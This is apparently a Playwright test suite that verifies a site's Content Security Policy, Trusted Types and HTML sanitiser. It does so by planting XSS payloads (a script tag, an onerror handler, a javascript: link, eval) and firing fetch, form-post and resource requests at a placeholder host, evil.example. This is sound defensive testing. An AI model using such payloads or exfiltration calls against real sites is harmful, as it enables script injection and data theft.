import { createHash } from 'node:crypto'
import { expect, test } from '../drivers/fixtures.ts'
import { hydrate } from '../drivers/hydration.ts'

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

test('a cached page runs under a policy of hashes with Trusted Types and preloads no script [S30]', async ({
  page,
  request,
}) => {
  const requestedPaths: string[] = []
  page.on('request', (pageRequest) => requestedPaths.push(new URL(pageRequest.url()).pathname))
  // The second response comes from the page cache.
  await request.get('/faqs')
  const html = await (await request.get('/faqs')).text()
  const response = await page.goto('/faqs')
  const policy = response!.headers()['content-security-policy']!

  expect(policy).not.toContain('nonce')
  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types boot html")
  expect(html).not.toMatch(/ nonce=|rel="modulepreload"|as="script"/)
  const scripts = [...html.matchAll(/<script(?<attributes>[^>]*)>(?<code>[\s\S]*?)<\/script>/g)].map(
    ({ groups }) => groups!,
  )
  const code = scripts
    .filter(({ attributes }) => !/application\/(ld\+)?json/.test(attributes!))
    .map((script) => script.code!)
  expect(code).toHaveLength(3)
  for (const script of code) expect(policy).toContain(sha256(script))

  await hydrate(page)
  await expect(page.locator('[data-basket-count]').first()).toBeAttached()
  // Public HTML contains all data but the session.
  expect(requestedPaths.filter((path) => path.startsWith('/bff'))).toEqual(['/bff/session'])
})

test('text that a navigation loads equals that of the server, and loses what an intruder adds to it [S30 S35]', async ({
  page,
  expectErrors,
}) => {
  // The policy reports the event handler when the sanitiser parses it, although that document runs no scripts.
  expectErrors(/inline event handler|CSP violation: script-src-attr/)
  const path = '/stories/the-ramp-and-the-steps'
  const story = page.locator('main div:has(> figure)')
  const isPurifierLoaded = () =>
    page.evaluate(() => performance.getEntriesByType('resource').some(({ name }) => name.includes('/purify-html-')))
  await page.goto(path)
  const serverHtml = await story.innerHTML()
  await hydrate(page)
  expect(await story.innerHTML()).toBe(serverHtml)
  expect(await isPurifierLoaded()).toBe(false)

  const openStory = async () => {
    await page.goto('/stories')
    await hydrate(page)
    await page.locator(`main a[href="${path}"]`).first().click()
    await expect(story).toBeVisible()
  }
  await openStory()
  expect(await story.innerHTML()).toBe(serverHtml)
  expect(await isPurifierLoaded()).toBe(true)

  const planted =
    '<script>self.planted = 1</script><img src="x" onerror="self.planted = 1"><a href="javascript:self.planted = 1">x</a>' +
    '<iframe src="/"></iframe><form action="/"><input name="q"></form><p id="a">y</p>'
  await page.route('**/bff/content*', async (route) => {
    const response = await route.fetch()
    const body = await response.text()
    await route.fulfill({
      response,
      body: body.replaceAll('<figure>', `${JSON.stringify(planted).slice(1, -1)}<figure>`),
    })
  })
  await openStory()
  const html = await story.innerHTML()
  expect(html).not.toBe(serverHtml)
  expect(html.replaceAll('<img><a>x</a><p>y</p>', '')).toBe(serverHtml)
  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
})

/** Violates each directive; returns the errors and the directives that did not block. Runs in the page. */
const violatePolicy = async () => {
  const violated = new Set<string>()
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
  const catchError = (act: () => unknown) => {
    try {
      act()
      return 'allowed'
    } catch (error) {
      return (error as Error).name
    }
  }
  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
    .trustedTypes
  const appendElement = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name)
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
    document.body.append(element)
    return element
  }
  const thrown = {
    html: catchError(() => (document.createElement('div').innerHTML = '<b>x</b>')),
    parsing: catchError(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
    source: catchError(() => (document.createElement('script').src = '/assets/other.js')),
    plugin: catchError(() => appendElement('object', { data: 'https://evil.example/' })),
    handler: catchError(() => appendElement('button', { onclick: 'self.planted = true' })),
    anotherPolicy: catchError(() => types.createPolicy('mine', {})),
    ourPolicyAgain: catchError(() => types.createPolicy('boot', {})),
  }
  const styledElement = appendElement('p', { style: 'color: rgb(1, 2, 3)' })
  appendElement('img', { src: 'https://evil.example/pixel.png' })
  appendElement('iframe', { src: 'https://evil.example/' })
  appendElement('base', { href: 'https://evil.example/' })
  appendElement('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' })
  await fetch('https://evil.example/collect').catch(() => {})
  const form = appendElement('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
  form.submit()
  await new Promise((resolve) => setTimeout(resolve, 300))
  // Runs after the pause, because code that Playwright evaluates may use eval until it yields.
  const evaluation = catchError(() => globalThis.eval('self.planted = true'))
  const expectedDirectives = [
    'require-trusted-types-for',
    'trusted-types',
    'style-src-attr',
    'img-src',
    'frame-src',
    'base-uri',
    'style-src-elem',
    'connect-src',
    'form-action',
  ]
  return {
    thrown: { ...thrown, evaluation },
    allowedDirectives: expectedDirectives.filter((directive) => !violated.has(directive)),
    colour: getComputedStyle(styledElement).color,
    hasRun: 'planted' in globalThis,
  }
}

for (const [policyType, path] of [
  ['hashes', '/faqs'],
  ['a nonce', '/basket'],
] as const) {
  test(`the browser blocks everything that a policy with ${policyType} forbids [S30]`, async ({
    page,
    expectErrors,
    browserErrors,
  }) => {
    expectErrors(/CSP violation|CSP report|Content Security Policy|Trusted ?(HTML|Script|Type)/i)
    await page.goto(path)
    await hydrate(page)
    const { thrown, allowedDirectives, colour, hasRun } = await page.evaluate(violatePolicy)
    expect(thrown).toEqual({
      html: 'TypeError',
      parsing: 'TypeError',
      source: 'TypeError',
      plugin: 'TypeError',
      handler: 'TypeError',
      anotherPolicy: 'TypeError',
      ourPolicyAgain: 'TypeError',
      evaluation: 'EvalError',
    })
    expect(allowedDirectives).toEqual([])
    expect(colour).not.toBe('rgb(1, 2, 3)')
    expect(hasRun, 'a blocked script has run').toBe(false)
    // Proves that violations of style attributes are recorded: such a violation fails any other test.
    expect(browserErrors.recorded.join()).toContain('CSP violation: style-src-attr')
  })
}
